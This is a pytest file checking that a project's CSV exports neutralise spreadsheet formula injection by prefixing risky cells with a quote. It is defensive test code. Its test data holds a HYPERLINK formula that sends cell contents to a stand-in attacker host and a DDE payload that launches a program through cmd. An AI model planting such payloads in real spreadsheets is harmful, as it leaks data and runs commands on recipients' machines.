"""No CSV Safeside writes can run a formula in the spreadsheet that opens it: a case reference
or note that begins like one reaches the reader as text (``safeside/csv_text.py``)."""

from __future__ import annotations

import csv
import io

import pytest

from safeside.csv_text import inert
from starter.cli.output import to_csv
from starter.services import evidence, ssda903

PLANTED = '=HYPERLINK("https://attacker.example/?"&B2,"open")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell", [PLANTED, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str) -> None:
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["CASE-4471", "-3", "+1.5", "42", "", "a = b", "[redacted]"])
def test_other_cells_are_written_as_they_are(cell: str) -> None:
    assert inert(cell) == cell


def test_the_inspection_evidence_csv_holds_a_planted_formula_as_text() -> None:
    row = {"placement_id": "PL-1", "case_reference": PLANTED, "kind": "missing"}
    text = evidence.as_csv([row], evidence.MISSING_RECORD_COLUMNS)
    [header, line] = cells(text)
    assert line[header.index("case reference")] == "'" + PLANTED
    assert line[header.index("placement")] == "PL-1"


def test_the_ssda903_return_holds_a_planted_formula_as_text() -> None:
    text = ssda903.as_csv([(PLANTED, "01/02/2010", "M", "03/01/2026", "")])
    assert cells(text)[1] == ["'" + PLANTED, "01/02/2010", "M", "03/01/2026", ""]


def test_the_command_lines_csv_holds_a_planted_formula_as_text() -> None:
    text = to_csv(["case reference", "minutes"], [[PLANTED, -5]])
    assert cells(text) == [["case reference", "minutes"], ["'" + PLANTED, "-5"]]
